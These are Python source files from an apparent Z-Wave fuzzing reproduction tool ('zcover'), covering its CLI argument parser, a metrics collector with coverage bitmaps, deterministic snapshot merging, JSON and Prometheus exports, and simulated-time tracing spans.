    obs.add_argument("--out", help="write the rendering here (default: stdout)")
    obs.add_argument("--trace-out", help="export the span ring as JSON lines here")
    obs.set_defaults(func=cmd_obs)

    perf = sub.add_parser(
        "perf", help="hot-path microbenchmarks with a regression gate"
    )
    perf.add_argument(
        "--fast", action="store_true", help="smaller workloads (CI and smoke tests)"
    )
    perf.add_argument(
        "--workloads",
        help="comma-separated workload subset (calibration always included)",
    )
    perf.add_argument(
        "--repeats", type=int, default=3, help="repetitions per workload; best-of wins"
    )
    perf.add_argument("--format", choices=("text", "json"), default="text")
    perf.add_argument("--out", help="write BENCH_core.json here")
    perf.add_argument(
        "--baseline", help="compare against this committed BENCH_core.json"
    )
    perf.add_argument(
        "--tolerance",
        type=float,
        default=0.25,
        help="allowed fractional growth of calibration-normalised cost (0.25 = +25%%)",
    )
    perf.add_argument(
        "--update-baseline",
        action="store_true",
        help="rewrite --baseline with this run instead of gating",
    )
    perf.set_defaults(func=cmd_perf)

    lint = sub.add_parser("lint", help="static analysis of the repro source tree")
    lint.add_argument("--format", choices=("text", "json", "sarif"), default="text")
    lint.add_argument("--root", help="lint this tree instead of the installed package")
    lint.add_argument("--rules", action="store_true", help="list every rule and exit")
    lint.add_argument(
        "--jobs",
        type=int,
        default=1,
        help="shard per-file flow summarization across N processes",
    )
    lint.add_argument("--out", help="write the report here instead of stdout")
    lint.add_argument(
        "--cache", help="incremental flow-summary cache file (content-CRC keyed)"
    )
    lint.add_argument(
        "--strict",
        action="store_true",
        help="exit non-zero on warnings too, not just errors",
    )
    lint.add_argument(
        "--write-manifest",
        metavar="PATH",
        help="write the purity manifest (canonical JSON) to PATH",
    )
    lint.add_argument(
        "--check-manifest",
        metavar="PATH",
        help="fail (exit 2) if the purity manifest drifted from PATH",
    )
    lint.set_defaults(func=cmd_lint)

    serve = sub.add_parser(
        "serve", help="run the long-lived campaign job service (HTTP/JSON)"
    )
    serve.add_argument("--host", default="127.0.0.1", help="bind address")
    serve.add_argument(
        "--port", type=int, default=8377, help="bind port (0 = ephemeral)"
    )
    _add_workers(serve)
    serve.add_argument(
        "--checkpoint",
        help="write-ahead checkpoint file: completed units are logged here "
        "and a restarted service resumes unfinished jobs mid-trial-set",
    )
    serve.add_argument(
        "--retries",
        type=int,
        default=1,
        help="extra attempts per failing campaign unit (default 1)",
    )
    serve.set_defaults(func=cmd_serve)

    submit = sub.add_parser(
        "submit", help="submit a job to a running service (or --direct oracle)"
    )
    submit.add_argument("--host", default="127.0.0.1", help="service address")
    submit.add_argument("--port", type=int, default=8377, help="service port")
    submit.add_argument(
        "--kind",
        choices=("trials", "sessions", "chaos"),
        default="trials",
        help="job kind (default trials)",
    )
    _add_common(submit)
    submit.add_argument("--mode", choices=tuple(_MODES), default="full")
    submit.add_argument(
        "--trials",
        type=int,
        default=None,
        help="trial count (kind-specific stock default when omitted)",
    )
    submit.add_argument(
        "--hours", type=float, default=1.0, help="simulated hours per campaign"
    )
    _add_scheduler(submit)
    submit.add_argument(
        "--fault-plan",
        help="stock fault plan name (canonical, lossy, flaky); required for "
        "chaos jobs, optional for trials",
    )
    submit.add_argument(
        "--flows", help="comma-separated session flows (sessions jobs only)"
    )
    submit.add_argument(
        "--wait", action="store_true", help="poll until the job is terminal"
    )
    submit.add_argument(
        "--timeout",
        type=float,
        default=600.0,
        help="wall-clock deadline for --wait/--out polling (seconds)",
    )
    submit.add_argument(
        "--out", help="write the result document here (implies --wait)"
    )
    submit.add_argument(
        "--direct",
        action="store_true",
        help="run the spec in-process serially and emit the oracle document "
        "(no service involved) — the bytes a service result must equal",
    )
    submit.set_defaults(func=cmd_submit)

    return parser


def main(argv: Optional[List[str]] = None) -> int:
    """CLI entry point; returns the process exit code."""
    parser = build_parser()
    args = parser.parse_args(argv)
    return args.func(args)


if __name__ == "__main__":
    sys.exit(main())
