"""Campaign observability: metrics, tracing spans and exports.

Three modules form the measurement substrate of the reproduction (see
``docs/architecture.md`` §Observability):

* :mod:`repro.obs.metrics` — process-local, JSON-clean counters, gauges,
  histograms and the CMDCL×CMD coverage bitmap, with a seed-stable
  snapshot/merge API that composes with the parallel campaign engine;
* :mod:`repro.obs.tracing` — a lightweight span API over simulated time
  (``with span("campaign.fuzz", device="D1")``) with a bounded in-memory
  ring and optional JSONL export;
* :mod:`repro.obs.export` — text, JSON (schema v1) and Prometheus-style
  textfile renderings, wired to ``zcover obs`` and ``--metrics-out``.

Everything measured here is simulated-time and counter based, so metrics
documents are byte-identical across worker counts; the only wall-clock
read (span profiling) lives in :func:`repro.radio.clock.wall_monotonic`
and never enters a metrics document.
"""

from .metrics import (
    MetricsCollector,
    MetricsSnapshot,
    SpanStats,
    active_collector,
    collecting,
    coverage_key,
    frames_per_bug,
    format_frames_per_bug,
    harness_snapshot,
    is_state_coverage_key,
    merge_all,
    merge_snapshots,
    parse_coverage_key,
    parse_state_coverage_key,
    state_coverage_key,
)
from .tracing import SpanRecord, Tracer, current_tracer, span, tracing_to

__all__ = [
    "MetricsCollector",
    "MetricsSnapshot",
    "SpanRecord",
    "SpanStats",
    "Tracer",
    "active_collector",
    "collecting",
    "coverage_key",
    "current_tracer",
    "format_frames_per_bug",
    "frames_per_bug",
    "harness_snapshot",
    "is_state_coverage_key",
    "merge_all",
    "merge_snapshots",
    "parse_coverage_key",
    "parse_state_coverage_key",
    "span",
    "state_coverage_key",
    "tracing_to",
]
