"""Process-local campaign metrics with a seed-stable snapshot/merge API.

A :class:`MetricsCollector` accumulates four families of measurements
while a campaign runs:

* **counters** — monotonically increasing integers (frames TX/RX,
  mutations by field class and operator, bugs by dedup key, probe
  counts);
* **gauges** — floats merged by ``max`` (campaign durations);
* **histograms** — fixed-bucket integer distributions (payload lengths,
  per-unit attempt counts);
* **coverage** — the CMDCL×CMD bitmap: how often the controller's
  dispatcher processed each ``(cmdcl, cmd)`` pair it actually defines.

Instrumented code never threads a collector through constructors; it
calls the module-level helpers (:func:`inc`, :func:`observe`,
:func:`cover`, ...) which write to the innermost collector activated via
``with collecting(collector):`` — and are cheap no-ops when none is
active, so library code stays usable outside campaigns.

Snapshots are frozen dataclasses of JSON-clean fields (they ride the
:mod:`repro.core.resultio` wire codec between workers) and merging is
**associative and commutative**: every summed quantity is an integer
(span durations are integer microseconds — float addition would not be
associative) and gauges merge by ``max``.  That is what makes a merged
document byte-identical for any worker count and any merge grouping
(``tests/test_obs_properties.py`` is the proof).
"""

from __future__ import annotations

from contextlib import contextmanager
from dataclasses import dataclass, field
from typing import Dict, Iterable, Iterator, List, Optional, Sequence, Tuple

from ..errors import SpanValueError

#: Upper bucket bounds of every histogram (values above fall in ``inf``).
HISTOGRAM_BOUNDS: Tuple[int, ...] = (1, 2, 4, 8, 16, 32)

#: Histogram bucket keys in rendering order, plus the sum/count fields.
HISTOGRAM_KEYS: Tuple[str, ...] = tuple(
    f"le_{bound}" for bound in HISTOGRAM_BOUNDS
) + ("inf", "sum", "count")


@dataclass(frozen=True)
class SpanStats:
    """Aggregate of every completed span sharing one name.

    Durations are integer microseconds of *simulated* time so that merge
    addition stays associative; wall-clock profiling lives only in the
    tracer's ring, never here.
    """

    count: int = 0
    sim_time_us: int = 0

    @property
    def sim_seconds(self) -> float:
        return self.sim_time_us / 1_000_000


@dataclass(frozen=True)
class MetricsSnapshot:
    """An immutable, JSON-clean view of one collector's state."""

    counters: Dict[str, int] = field(default_factory=dict)
    gauges: Dict[str, float] = field(default_factory=dict)
    histograms: Dict[str, Dict[str, int]] = field(default_factory=dict)
    coverage: Dict[str, int] = field(default_factory=dict)
    spans: Dict[str, SpanStats] = field(default_factory=dict)

    @property
    def empty(self) -> bool:
        return not (
            self.counters
            or self.gauges
            or self.histograms
            or self.coverage
            or self.spans
        )


# -- coverage keys -------------------------------------------------------------


def coverage_key(cmdcl: int, cmd: Optional[int] = None) -> str:
    """Canonical bitmap key: ``"25:01"`` for a pair, ``"25:-"`` class-only."""
    if cmd is None:
        return f"{cmdcl:02x}:-"
    return f"{cmdcl:02x}:{cmd:02x}"


def parse_coverage_key(key: str) -> Tuple[int, Optional[int]]:
    """Invert :func:`coverage_key`."""
    cmdcl_hex, _, cmd_hex = key.partition(":")
    return int(cmdcl_hex, 16), None if cmd_hex == "-" else int(cmd_hex, 16)


def state_coverage_key(flow: str, state: str, mark: str) -> str:
    """Session-transition bitmap key: ``"<flow>@<state>><mark>"``.

    Lives in the same coverage map as the CMDCL×CMD keys (so it merges,
    rides the wire and snapshots for free) but is structurally disjoint
    from them: hex keys never contain ``"@"``, and the scheduler's
    ``"xx:"`` prefix filter never matches a flow name.
    """
    return f"{flow}@{state}>{mark}"


def is_state_coverage_key(key: str) -> bool:
    """Whether *key* is a session-transition key, not a CMDCL×CMD one."""
    return "@" in key


def parse_state_coverage_key(key: str) -> Tuple[str, str, str]:
    """Invert :func:`state_coverage_key`."""
    flow, _, rest = key.partition("@")
    state, _, mark = rest.partition(">")
    return flow, state, mark


# -- the collector -------------------------------------------------------------


class MetricsCollector:
    """Mutable accumulator; one per campaign, never shared across processes."""

    def __init__(self) -> None:
        self._counters: Dict[str, int] = {}
        self._gauges: Dict[str, float] = {}
        self._histograms: Dict[str, Dict[str, int]] = {}
        self._coverage: Dict[str, int] = {}
        self._spans: Dict[str, List[int]] = {}  # name -> [count, sim_time_us]

    def inc(self, name: str, amount: int = 1) -> None:
        """Add *amount* to counter *name*."""
        self._counters[name] = self._counters.get(name, 0) + int(amount)

    def gauge_max(self, name: str, value: float) -> None:
        """Raise gauge *name* to *value* if larger (max-merge semantics)."""
        current = self._gauges.get(name)
        if current is None or value > current:
            self._gauges[name] = float(value)

    def observe(self, name: str, value: int) -> None:
        """Record one integer observation into histogram *name*."""
        hist = self._histograms.get(name)
        if hist is None:
            hist = self._histograms[name] = {key: 0 for key in HISTOGRAM_KEYS}
        bucket = "inf"
        for bound in HISTOGRAM_BOUNDS:
            if value <= bound:
                bucket = f"le_{bound}"
                break
        hist[bucket] += 1
        hist["sum"] += int(value)
        hist["count"] += 1

    def cover(self, cmdcl: int, cmd: Optional[int] = None, amount: int = 1) -> None:
        """Mark one processing of a ``(cmdcl, cmd)`` coordinate."""
        key = coverage_key(cmdcl, cmd)
        self._coverage[key] = self._coverage.get(key, 0) + int(amount)

    def cover_state(self, flow: str, state: str, mark: str, amount: int = 1) -> None:
        """Mark one session-flow transition in the state×transition bitmap."""
        key = state_coverage_key(flow, state, mark)
        self._coverage[key] = self._coverage.get(key, 0) + int(amount)

    def coverage_size(self) -> int:
        """How many distinct coverage coordinates the bitmap holds.

        Monotonically non-decreasing, so the coverage scheduler compares
        it across a frame's dispatch to detect novelty without copying
        the bitmap.
        """
        return len(self._coverage)

    def covered_pairs(self, cmdcl: int) -> int:
        """Distinct ``(cmdcl, cmd)`` pairs of *cmdcl* the bitmap has seen.

        Excludes the class-only ``"xx:-"`` coordinate: the scheduler's
        residual-path term counts dispatched *commands* against the
        registry's defined command count.
        """
        prefix = f"{cmdcl:02x}:"
        return sum(
            1
            for key in self._coverage
            if key.startswith(prefix) and not key.endswith(":-")
        )

    def covered_transitions(self, flow: str) -> int:
        """Distinct ``(state, mark)`` transitions of *flow* seen so far.

        The session energy loop's novelty signal, analogous to
        :meth:`covered_pairs` for the CMDCL×CMD bitmap.
        """
        prefix = f"{flow}@"
        return sum(1 for key in self._coverage if key.startswith(prefix))

    def record_span(self, name: str, sim_time_us: int) -> None:
        """Fold one completed span into the per-name aggregates.

        *sim_time_us* must already be an exact ``int`` (the tracer rounds
        before calling); anything else — float, bool, Decimal, string —
        raises :class:`~repro.errors.SpanValueError` instead of being
        silently truncated, because two callers coercing differently
        would silently break merged-snapshot byte identity.
        """
        if not isinstance(sim_time_us, int) or isinstance(sim_time_us, bool):
            raise SpanValueError(name, sim_time_us)
        entry = self._spans.get(name)
        if entry is None:
            self._spans[name] = [1, sim_time_us]
        else:
            entry[0] += 1
            entry[1] += sim_time_us

    def snapshot(self) -> MetricsSnapshot:
        """A frozen, key-sorted copy of the current state."""
        return MetricsSnapshot(
            counters={k: self._counters[k] for k in sorted(self._counters)},
            gauges={k: self._gauges[k] for k in sorted(self._gauges)},
            histograms={
                k: dict(self._histograms[k]) for k in sorted(self._histograms)
            },
            coverage={k: self._coverage[k] for k in sorted(self._coverage)},
            spans={
                k: SpanStats(count=self._spans[k][0], sim_time_us=self._spans[k][1])
                for k in sorted(self._spans)
            },
        )

    def reset(self) -> None:
        self._counters.clear()
        self._gauges.clear()
        self._histograms.clear()
        self._coverage.clear()
        self._spans.clear()


# -- the active-collector stack ------------------------------------------------

_ACTIVE: List[MetricsCollector] = []


def active_collector() -> Optional[MetricsCollector]:
    """The innermost activated collector, or ``None`` outside campaigns."""
    return _ACTIVE[-1] if _ACTIVE else None


@contextmanager
def collecting(collector: MetricsCollector) -> Iterator[MetricsCollector]:
    """Route the module-level helpers to *collector* inside the block."""
    _ACTIVE.append(collector)
    try:
        yield collector
    finally:
        _ACTIVE.pop()


def inc(name: str, amount: int = 1) -> None:
    """Increment a counter on the active collector (no-op when inactive)."""
    if _ACTIVE:
        _ACTIVE[-1].inc(name, amount)


def gauge_max(name: str, value: float) -> None:
    """Max-merge a gauge on the active collector (no-op when inactive)."""
    if _ACTIVE:
        _ACTIVE[-1].gauge_max(name, value)


def observe(name: str, value: int) -> None:
    """Histogram observation on the active collector (no-op when inactive)."""
    if _ACTIVE:
        _ACTIVE[-1].observe(name, value)


def cover(cmdcl: int, cmd: Optional[int] = None) -> None:
    """Coverage mark on the active collector (no-op when inactive)."""
    if _ACTIVE:
        _ACTIVE[-1].cover(cmdcl, cmd)


def cover_state(flow: str, state: str, mark: str) -> None:
    """Session-transition mark on the active collector (no-op when inactive)."""
    if _ACTIVE:
        _ACTIVE[-1].cover_state(flow, state, mark)


# -- merging -------------------------------------------------------------------


def _merge_int_maps(left: Dict[str, int], right: Dict[str, int]) -> Dict[str, int]:
    merged = dict(left)
    for key, value in right.items():
        merged[key] = merged.get(key, 0) + value
    return {k: merged[k] for k in sorted(merged)}


def merge_snapshots(left: MetricsSnapshot, right: MetricsSnapshot) -> MetricsSnapshot:
    """Combine two snapshots; associative, and commutative per metric family.

    Counters, histograms, coverage and span aggregates add (integers, so
    grouping never matters); gauges take the maximum.
    """
    gauges = dict(left.gauges)
    for key, value in right.gauges.items():
        if key not in gauges or value > gauges[key]:
            gauges[key] = value
    histograms = {k: dict(v) for k, v in left.histograms.items()}
    for key, hist in right.histograms.items():
        if key in histograms:
            histograms[key] = _merge_int_maps(histograms[key], hist)
        else:
            histograms[key] = dict(hist)
    spans = dict(left.spans)
    for key, stats in right.spans.items():
        if key in spans:
            spans[key] = SpanStats(
                count=spans[key].count + stats.count,
                sim_time_us=spans[key].sim_time_us + stats.sim_time_us,
            )
        else:
            spans[key] = stats
    return MetricsSnapshot(
        counters=_merge_int_maps(left.counters, right.counters),
        gauges={k: gauges[k] for k in sorted(gauges)},
        histograms={k: histograms[k] for k in sorted(histograms)},
        coverage=_merge_int_maps(left.coverage, right.coverage),
        spans={k: spans[k] for k in sorted(spans)},
    )


def merge_all(snapshots: Iterable[MetricsSnapshot]) -> MetricsSnapshot:
    """Left-fold :func:`merge_snapshots` from the empty snapshot."""
    merged = MetricsSnapshot()
    for snapshot in snapshots:
        merged = merge_snapshots(merged, snapshot)
    return merged


# -- derived quantities --------------------------------------------------------


def frames_per_bug(snapshot: MetricsSnapshot) -> Optional[float]:
    """Fuzzing frames sent per unique verified bug, or ``None`` without bugs.

    The single shared definition behind every efficiency figure — both
    :mod:`repro.analysis.summary` and :mod:`repro.analysis.report` read
    this, so the two renderings can never disagree.
    """
    bugs = snapshot.counters.get("bugs.unique", 0)
    if bugs <= 0:
        return None
    return snapshot.counters.get("fuzzer.frames_tx", 0) / bugs


def format_frames_per_bug(snapshot: MetricsSnapshot) -> str:
    """Canonical rendering of :func:`frames_per_bug` (``"n/a"`` without bugs)."""
    value = frames_per_bug(snapshot)
    return "n/a" if value is None else f"{value:.1f}"


# -- harness (executor) metrics ------------------------------------------------


def harness_snapshot(
    units: int,
    attempts: Sequence[int],
    failure_categories: Sequence[str],
) -> MetricsSnapshot:
    """Executor-side metrics: unit counts, per-unit retries, failures.

    Built identically by the serial trial loop (one attempt each, no
    failures) and by :func:`repro.core.resultio.merge_trials` from real
    :class:`~repro.core.parallel.UnitOutcome` records, so a clean
    parallel run merges to the same bytes as a serial one.
    """
    collector = MetricsCollector()
    collector.inc("parallel.units", units)
    collector.inc("parallel.unit_attempts", sum(attempts))
    collector.inc("parallel.unit_retries", sum(max(0, a - 1) for a in attempts))
    collector.inc("parallel.unit_failures", len(failure_categories))
    for attempt_count in attempts:
        collector.observe("parallel.attempts_per_unit", attempt_count)
    for category in failure_categories:
        collector.inc(f"parallel.failures.{category}")
    return collector.snapshot()
