"""Metrics exports: JSON document (schema v1), text table, Prometheus text.

The JSON *document* is the interchange form written by ``--metrics-out``
and read back by ``zcover obs --in``: a schema-versioned envelope around
one merged :class:`~repro.obs.metrics.MetricsSnapshot` plus free-form
``meta`` describing what was measured.  :func:`dumps_document` is
canonical (sorted keys, two-space indent, trailing newline), so equal
snapshots produce byte-identical files — the property the golden test
(``tests/data/obs_golden.json``) and the serial-vs-parallel CLI test pin.
"""

from __future__ import annotations

import json
from typing import Dict, Optional

from .metrics import (
    HISTOGRAM_BOUNDS,
    MetricsSnapshot,
    SpanStats,
    is_state_coverage_key,
    parse_coverage_key,
    parse_state_coverage_key,
)

#: Document type marker, mirroring the lint report's schema envelope.
SCHEMA = "zcover-obs-metrics"
SCHEMA_VERSION = 1


class ObsExportError(ValueError):
    """A metrics document does not match the expected schema or version."""


# -- the JSON document ---------------------------------------------------------


def snapshot_to_document(
    snapshot: MetricsSnapshot, meta: Optional[dict] = None
) -> dict:
    """Wrap *snapshot* in the schema-v1 envelope."""
    return {
        "schema": SCHEMA,
        "schema_version": SCHEMA_VERSION,
        "meta": dict(meta or {}),
        "counters": {k: snapshot.counters[k] for k in sorted(snapshot.counters)},
        "gauges": {k: snapshot.gauges[k] for k in sorted(snapshot.gauges)},
        "histograms": {
            k: dict(snapshot.histograms[k]) for k in sorted(snapshot.histograms)
        },
        "coverage": {k: snapshot.coverage[k] for k in sorted(snapshot.coverage)},
        "spans": {
            k: {
                "count": snapshot.spans[k].count,
                "sim_time_us": snapshot.spans[k].sim_time_us,
            }
            for k in sorted(snapshot.spans)
        },
    }


def document_to_snapshot(doc: dict) -> MetricsSnapshot:
    """Rebuild the snapshot from a document, validating the envelope."""
    if doc.get("schema") != SCHEMA:
        raise ObsExportError(f"not a {SCHEMA} document (schema={doc.get('schema')!r})")
    if doc.get("schema_version") != SCHEMA_VERSION:
        raise ObsExportError(
            f"schema version {doc.get('schema_version')!r} != expected {SCHEMA_VERSION}"
        )
    return MetricsSnapshot(
        counters=dict(doc.get("counters", {})),
        gauges=dict(doc.get("gauges", {})),
        histograms={k: dict(v) for k, v in doc.get("histograms", {}).items()},
        coverage=dict(doc.get("coverage", {})),
        spans={
            name: SpanStats(count=entry["count"], sim_time_us=entry["sim_time_us"])
            for name, entry in doc.get("spans", {}).items()
        },
    )


def canonical_dumps(doc: dict) -> str:
    """Canonical serialisation: sorted keys, indent 2, trailing newline.

    Shared by every schema-versioned document in the tree (obs metrics,
    chaos audits, perf benches) so "equal content ⇒ identical bytes"
    holds across subsystems, not just within one.
    """
    return json.dumps(doc, sort_keys=True, indent=2) + "\n"


def dumps_document(doc: dict) -> str:
    """Canonical serialisation of a metrics document."""
    return canonical_dumps(doc)


def write_document(doc: dict, path: str) -> None:
    """Write the canonical serialisation to *path*."""
    with open(path, "w", encoding="utf-8") as handle:
        handle.write(dumps_document(doc))


def load_document(path: str) -> dict:
    """Read a document and validate its envelope."""
    with open(path, "r", encoding="utf-8") as handle:
        doc = json.load(handle)
    document_to_snapshot(doc)  # envelope + layout validation
    return doc


# -- text rendering ------------------------------------------------------------


def _split_coverage(
    coverage: Dict[str, int],
) -> "tuple[Dict[str, int], Dict[str, int]]":
    """Partition the bitmap into (CMDCL×CMD keys, session-transition keys).

    The two families share one merged map (see
    :func:`repro.obs.metrics.state_coverage_key`); every renderer must
    split before parsing, since transition keys are not hex pairs.
    """
    pairs = {k: v for k, v in coverage.items() if not is_state_coverage_key(k)}
    states = {k: v for k, v in coverage.items() if is_state_coverage_key(k)}
    return pairs, states


def _coverage_by_class(coverage: Dict[str, int]) -> Dict[int, int]:
    """Per-CMDCL count of distinct exercised coordinates."""
    classes: Dict[int, int] = {}
    for key in coverage:
        if is_state_coverage_key(key):
            continue
        cmdcl, _cmd = parse_coverage_key(key)
        classes[cmdcl] = classes.get(cmdcl, 0) + 1
    return classes


def _transitions_by_flow(states: Dict[str, int]) -> Dict[str, int]:
    """Per-flow count of distinct exercised state transitions."""
    flows: Dict[str, int] = {}
    for key in states:
        flow, _state, _mark = parse_state_coverage_key(key)
        flows[flow] = flows.get(flow, 0) + 1
    return flows


def render_text(doc: dict) -> str:
    """Human-readable summary of a metrics document."""
    snapshot = document_to_snapshot(doc)
    lines = [f"{SCHEMA} v{doc.get('schema_version')}"]
    meta = doc.get("meta", {})
    if meta:
        pairs = "  ".join(f"{k}={meta[k]}" for k in sorted(meta))
        lines.append(f"meta: {pairs}")
    if snapshot.counters:
        lines += ["", "counters:"]
        width = max(len(name) for name in snapshot.counters)
        for name in sorted(snapshot.counters):
            lines.append(f"  {name.ljust(width)}  {snapshot.counters[name]}")
    if snapshot.gauges:
        lines += ["", "gauges:"]
        width = max(len(name) for name in snapshot.gauges)
        for name in sorted(snapshot.gauges):
            lines.append(f"  {name.ljust(width)}  {snapshot.gauges[name]:g}")
    pairs, states = _split_coverage(snapshot.coverage)
    if pairs:
        classes = _coverage_by_class(pairs)
        total_hits = sum(pairs.values())
        lines += [
            "",
            f"coverage: {len(pairs)} (cmdcl, cmd) coordinates over "
            f"{len(classes)} command classes, {total_hits} processed frames",
        ]
        for cmdcl in sorted(classes):
            lines.append(f"  0x{cmdcl:02x}: {classes[cmdcl]} coordinate(s)")
    if states:
        flows = _transitions_by_flow(states)
        total_hits = sum(states.values())
        lines += [
            "",
            f"session coverage: {len(states)} state transitions over "
            f"{len(flows)} flows, {total_hits} consumed frames",
        ]
        for flow in sorted(flows):
            lines.append(f"  {flow}: {flows[flow]} transition(s)")
    if snapshot.histograms:
        lines += ["", "histograms:"]
        for name in sorted(snapshot.histograms):
            hist = snapshot.histograms[name]
            buckets = "  ".join(
                f"le_{bound}={hist.get(f'le_{bound}', 0)}"
                for bound in HISTOGRAM_BOUNDS
            )
            lines.append(
                f"  {name}: count={hist.get('count', 0)} sum={hist.get('sum', 0)} "
                f"{buckets}  inf={hist.get('inf', 0)}"
            )
    if snapshot.spans:
        lines += ["", "spans (simulated time):"]
        width = max(len(name) for name in snapshot.spans)
        for name in sorted(snapshot.spans):
            stats = snapshot.spans[name]
            lines.append(
                f"  {name.ljust(width)}  count={stats.count}  "
                f"sim={stats.sim_seconds:.3f}s"
            )
    return "\n".join(lines)


# -- Prometheus textfile rendering ---------------------------------------------


def render_prometheus(doc: dict) -> str:
    """Prometheus text exposition of a metrics document.

    Suitable for the node-exporter textfile collector; meta entries are
    emitted as comments since they are labels of the whole document.
    """
    snapshot = document_to_snapshot(doc)
    lines = [f"# {SCHEMA} schema v{doc.get('schema_version')}"]
    meta = doc.get("meta", {})
    for key in sorted(meta):
        lines.append(f"# meta {key}={meta[key]}")
    for name in sorted(snapshot.counters):
        lines.append(
            f'zcover_counter_total{{name="{name}"}} {snapshot.counters[name]}'
        )
    for name in sorted(snapshot.gauges):
        lines.append(f'zcover_gauge{{name="{name}"}} {snapshot.gauges[name]:g}')
    for key in sorted(snapshot.coverage):
        if is_state_coverage_key(key):
            flow, state, mark = parse_state_coverage_key(key)
            lines.append(
                f'zcover_session_transition_total{{flow="{flow}",state="{state}",'
                f'mark="{mark}"}} {snapshot.coverage[key]}'
            )
            continue
        cmdcl, cmd = parse_coverage_key(key)
        cmd_label = "none" if cmd is None else f"{cmd:02x}"
        lines.append(
            f'zcover_coverage_total{{cmdcl="{cmdcl:02x}",cmd="{cmd_label}"}} '
            f"{snapshot.coverage[key]}"
        )
    for name in sorted(snapshot.histograms):
        hist = snapshot.histograms[name]
        cumulative = 0
        for bound in HISTOGRAM_BOUNDS:
            cumulative += hist.get(f"le_{bound}", 0)
            lines.append(
                f'zcover_histogram_bucket{{name="{name}",le="{bound}"}} {cumulative}'
            )
        lines.append(
            f'zcover_histogram_bucket{{name="{name}",le="+Inf"}} '
            f"{hist.get('count', 0)}"
        )
        lines.append(f'zcover_histogram_sum{{name="{name}"}} {hist.get("sum", 0)}')
        lines.append(
            f'zcover_histogram_count{{name="{name}"}} {hist.get("count", 0)}'
        )
    for name in sorted(snapshot.spans):
        stats = snapshot.spans[name]
        lines.append(f'zcover_span_count{{name="{name}"}} {stats.count}')
        lines.append(
            f'zcover_span_sim_seconds{{name="{name}"}} {stats.sim_seconds:g}'
        )
    return "\n".join(lines)
