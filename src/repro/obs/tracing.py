"""Lightweight tracing spans over simulated time.

Usage, from anywhere below an active tracer::

    with span("psm.mutate", cmdcl=0x25):
        ...

Spans measure **simulated** time (the :class:`~repro.radio.clock.SimClock`
the campaign runs against), so traces are deterministic; each record also
carries a wall-clock duration for profiling ``--workers`` runs, read
through :func:`repro.radio.clock.wall_monotonic` — the lint D101 time
owner — and kept out of every deterministic artefact (it appears only in
the JSONL trace export, never in a metrics document).

Completed spans land in two places: a bounded in-memory ring on the
:class:`Tracer` (oldest records drop when full; ``tracer.dropped`` counts
them) and, as ``(count, simulated µs)`` aggregates, on the active
:class:`~repro.obs.metrics.MetricsCollector` — so merged metrics include
span totals even though rings never cross process boundaries.
"""

from __future__ import annotations

import json
from collections import deque
from contextlib import contextmanager
from dataclasses import dataclass, field
from typing import Deque, Dict, Iterator, List, Optional

from ..radio.clock import SimClock, wall_monotonic
from . import metrics as _metrics

#: Default ring capacity: enough for every phase span of a long campaign
#: without letting an instrumented hot loop grow memory without bound.
DEFAULT_CAPACITY = 4096


@dataclass(frozen=True)
class SpanRecord:
    """One completed span: simulated interval, wall cost, attributes."""

    name: str
    start_s: float  # simulated seconds at entry
    end_s: float  # simulated seconds at exit
    wall_us: int  # wall-clock duration, profiling only
    attrs: Dict[str, str] = field(default_factory=dict)

    @property
    def duration_s(self) -> float:
        return self.end_s - self.start_s

    def to_dict(self) -> dict:
        """JSON-clean form for the JSONL trace export."""
        return {
            "name": self.name,
            "start_s": self.start_s,
            "end_s": self.end_s,
            "duration_s": self.duration_s,
            "wall_us": self.wall_us,
            "attrs": dict(self.attrs),
        }


class Tracer:
    """A bounded ring of completed spans bound to one simulated clock."""

    def __init__(
        self,
        clock: Optional[SimClock] = None,
        capacity: int = DEFAULT_CAPACITY,
    ):
        #: Bound lazily by :func:`repro.core.campaign.run_campaign` when the
        #: caller constructs the tracer before the testbed exists.
        self.clock = clock
        self._ring: Deque[SpanRecord] = deque(maxlen=max(1, capacity))
        self._total = 0

    @property
    def capacity(self) -> int:
        return self._ring.maxlen or 0

    @property
    def total_spans(self) -> int:
        """Spans completed over the tracer's lifetime (including dropped)."""
        return self._total

    @property
    def dropped(self) -> int:
        """Spans evicted from the ring by newer ones."""
        return self._total - len(self._ring)

    def records(self) -> List[SpanRecord]:
        """The retained spans, oldest first."""
        return list(self._ring)

    def _now(self) -> float:
        return self.clock.now if self.clock is not None else 0.0

    @contextmanager
    def span(self, name: str, **attrs) -> Iterator["Tracer"]:
        """Record the enclosed block as one span named *name*."""
        start_sim = self._now()
        start_wall = wall_monotonic()
        try:
            yield self
        finally:
            end_sim = self._now()
            wall_us = int((wall_monotonic() - start_wall) * 1_000_000)
            record = SpanRecord(
                name=name,
                start_s=start_sim,
                end_s=end_sim,
                wall_us=wall_us,
                attrs={key: str(attrs[key]) for key in sorted(attrs)},
            )
            self._ring.append(record)
            self._total += 1
            collector = _metrics.active_collector()
            if collector is not None:
                collector.record_span(
                    name, int(round((end_sim - start_sim) * 1_000_000))
                )

    def export_jsonl(self, path: str) -> int:
        """Write the retained spans as JSON lines; returns the line count.

        The export carries wall-clock profiling data and is therefore NOT
        byte-deterministic — it is a profiling artefact, not a result.
        """
        records = self.records()
        with open(path, "w", encoding="utf-8") as handle:
            for record in records:
                handle.write(json.dumps(record.to_dict(), sort_keys=True) + "\n")
        return len(records)


# -- the active-tracer stack ---------------------------------------------------

_TRACERS: List[Tracer] = []


def current_tracer() -> Optional[Tracer]:
    """The innermost activated tracer, or ``None`` outside campaigns."""
    return _TRACERS[-1] if _TRACERS else None


@contextmanager
def tracing_to(tracer: Tracer) -> Iterator[Tracer]:
    """Route module-level :func:`span` calls to *tracer* inside the block."""
    _TRACERS.append(tracer)
    try:
        yield tracer
    finally:
        _TRACERS.pop()


@contextmanager
def span(name: str, **attrs) -> Iterator[Optional[Tracer]]:
    """Span against the active tracer; a free no-op when none is active."""
    tracer = current_tracer()
    if tracer is None:
        yield None
        return
    with tracer.span(name, **attrs):
        yield tracer
