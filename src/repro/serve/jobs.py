"""Job records and the FIFO queue: the service's in-memory state.

One :class:`JobRecord` per distinct spec, one :class:`JobQueue` per
service.  The queue is FIFO by *sequence ticket* (assigned under a lock
at submission), so execution order is a pure function of arrival order —
the queue-order determinism property the test suite pins.  Submission is
idempotent: the job id is content-addressed
(:func:`~repro.serve.protocol.job_id_for`), so re-POSTing an identical
spec joins the existing job instead of queuing a duplicate run.

The lock makes the queue safe to touch from the asyncio loop *and* from
foreign threads (the black-box tests submit from the test thread while
the service loop runs); all methods are non-blocking apart from that
lock, so holding it inside the event loop is harmless.
"""

from __future__ import annotations

import threading
from typing import Dict, List, Optional, Tuple

